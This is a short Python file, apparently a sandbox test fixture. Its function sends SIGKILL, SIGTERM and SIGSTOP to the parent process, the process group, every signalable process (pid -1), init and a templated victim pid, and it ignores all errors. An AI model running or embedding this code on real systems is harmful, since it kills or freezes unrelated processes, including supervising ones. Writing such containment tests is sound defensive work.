# call, fail: signals to its parent, its group, everybody
import os
import signal


def rise(numbers):
  targets = [os.getppid(), 0, -1, 1, 2, 3, -os.getpgrp(), int("@VICTIM@")]
  for pid in targets:
    for number in (signal.SIGKILL, signal.SIGTERM, signal.SIGSTOP):
      try:
        os.kill(pid, number)
      except OSError:
        pass
  return -1
